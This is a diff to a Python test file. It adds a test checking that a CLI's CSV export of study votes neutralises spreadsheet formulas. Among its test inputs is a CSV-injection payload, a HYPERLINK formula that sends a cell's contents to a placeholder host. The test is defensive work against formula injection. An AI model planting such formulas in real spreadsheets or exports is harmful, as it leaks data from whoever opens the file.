@@ -7,11 +7,15 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from typer.testing import CliRunner
 
+from flows.cli import app
 from storage import quarantine
 from storage.quarantine import Quarantined
 from storage.table_files import write_table
 from storage.tables import Measured, pairs_table
+from tasks.study.tally import Tally
+from tasks.study.votes import Vote
 
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1)',
@@ -63,3 +67,13 @@ def test_a_quarantine_of_before_opens(tmp_path: Path) -> None:
     path = tmp_path / "quarantine.csv"
     path.write_text("pair_id,stage,reason\na__b,warp,'x.png' is not a picture\n", encoding="utf-8")
     assert quarantine.read(path) == {"a__b": Quarantined("warp", "'x.png' is not a picture")}
+
+
+def test_votes_of_strangers_are_no_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    votes = [(Vote(text, "1", "q", "c"), "=mgi") for text in FORMULAS]  # whoever sees the page may say any name
+    monkeypatch.setattr("tasks.study.tally.tally", lambda folder: Tally([], len(votes), 0))
+    monkeypatch.setattr("tasks.study.tally.named_votes", lambda folder: votes)
+    path = tmp_path / "votes.csv"
+    assert CliRunner().invoke(app, ["study", "tally", str(tmp_path), "--export", str(path)]).exit_code == 0
+    assert len(cells(path)) == len(votes) + 1
+    assert not [cell for row in cells(path) for cell in row if cell[:1] in tuple("=+-@\t\r\uff1d")]
